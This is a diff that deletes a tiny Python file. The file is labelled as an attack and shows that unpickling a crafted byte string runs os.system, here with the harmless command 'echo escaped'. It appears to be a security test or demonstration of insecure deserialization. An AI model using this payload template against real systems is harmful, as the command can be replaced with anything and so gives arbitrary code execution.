@@ -1,4 +1,0 @@
-# attack: unpickling runs arbitrary callables
-import pickle
-
-pickle.loads(b"cos\nsystem\n(S'echo escaped'\ntR.")
